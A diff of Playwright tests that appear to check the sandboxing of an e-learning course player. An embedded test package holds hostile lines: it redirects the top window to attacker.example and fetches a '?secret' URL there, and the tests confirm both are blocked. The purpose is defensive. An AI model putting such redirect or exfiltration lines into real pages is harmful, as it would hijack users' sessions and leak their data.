@@ -67,6 +67,12 @@ def test_a_page_is_played_saved_and_shown_again_where_it_was(
     file.write_text(f"{file.read_text(encoding='utf-8')}\nA word below the question.\n", encoding="utf-8")
     expect(view.locator("#M1-01[data-current]")).to_contain_text("A word below the question.")
     expect(chosen).to_be_checked()
+    text = file.read_bytes()
+    file.unlink()
+    expect(view.locator("#M1-01")).to_have_count(0)
+    file.write_bytes(text)
+    expect(view.locator("#M1-01[data-current]")).to_be_visible()
+    expect(chosen).to_be_checked()
 
     view.get_by_role("link", name="Continue").click()
     expect(view.locator("#M1-02[data-current]")).to_be_visible()
@@ -171,6 +177,7 @@ const attempt = (name, act) => { try { act(); } catch (problem) { said.push(`${n
 attempt("read", () => top.document.title);
 attempt("leave", () => { top.location = "https://attacker.example/"; });
 fetch("no/such.js");
+new WebSocket(`ws://${location.host}/socket`);
 fetch("https://attacker.example/?secret").catch(() => { document.title = said.join(" "); });
 const course = parent.document.getElementById("course");
 const away = "top.location = 'https://attacker.example/'";
@@ -206,7 +213,8 @@ def test_a_package_of_another_tool_is_played_and_reaches_neither_the_inspector_n
     expect(calls.get_by_role("row", name="LMSSetValue(cmi.core.score.raw) 80 true")).to_be_visible()
     expect(calls.get_by_role("row", name="lesson_status")).to_contain_text("Refused. 405: Incorrect data type")
     expect(calls.get_by_role("row", name="Blocked")).to_contain_text("https://attacker.example/")
-    expect(calls.get_by_role("row", name="Missing")).to_contain_text("no/such.js")
+    for name in ("no/such.js", "/socket"):
+        expect(calls.get_by_role("row", name=f"Missing {name}")).to_be_visible()
     package = next(frame for frame in tab.frames if "/package/" in frame.url)
     package.wait_for_function("document.title === 'read: SecurityError leave: SecurityError'")
     with context.expect_page() as beside:
